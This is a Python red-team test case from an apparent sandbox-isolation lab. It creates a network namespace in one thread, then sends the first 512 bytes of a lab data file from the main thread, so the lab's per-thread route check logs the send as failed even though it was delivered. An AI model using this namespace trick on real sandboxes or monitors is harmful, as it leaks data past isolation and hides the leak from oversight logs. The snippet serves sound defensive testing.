# lab:title: A datagram sent, from a thread in No-network's namespace, on a socket of another
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary(root): --on network => BROKE
"""(Red team, round 8.) With Isolation off the snippet is root of its user namespace: it makes a
network namespace of its own with lo up, opens a UDP listener and a sender
there, from a thread of its own; the main thread stays in No-network's empty
namespace. The
sender keeps its own namespace (a socket routes in the namespace it was
made in). sendmsg() with an IP_TTL control message to the listener: the
lab reads the routes of the calling thread's namespace (/proc/TID/net),
finds none and records '-1, no route' for a call that returned its byte
count and was delivered.
Root only: uid 65534's snippet cannot make a network namespace of its own
with Isolation off (no user namespace of its own to hold one).
"""
import ctypes, fcntl, os, socket, struct, threading

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET = 0x40000000
box = {}
def other_netns():
    # a thread's unshare(CLONE_NEWNET) moves that thread alone
    if libc.unshare(CLONE_NEWNET) != 0:
        box["err"] = os.strerror(ctypes.get_errno())
        return
    ctl = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(ctl.fileno(), 0x8914, struct.pack("16sH14x", b"lo", 0x1 | 0x40))  # SIOCSIFFLAGS up
    box["rx"] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    box["rx"].bind(("127.0.0.1", 0))
    box["tx"] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
t = threading.Thread(target=other_netns)
t.start(); t.join()
if "err" in box:
    print("unshare refused:", box["err"], flush=True)
    raise SystemExit(0)
rx, tx = box["rx"], box["tx"]
# this (main) thread is still in No-network's empty namespace
n = tx.sendmsg([open(os.environ["LAB_DATA"], "rb").read(512)], [(socket.IPPROTO_IP, socket.IP_TTL, struct.pack("i", 64))], 0, rx.getsockname())
rx.settimeout(1)
print("sendmsg returned", n, "; the listener got", len(rx.recv(4096)), "bytes", flush=True)
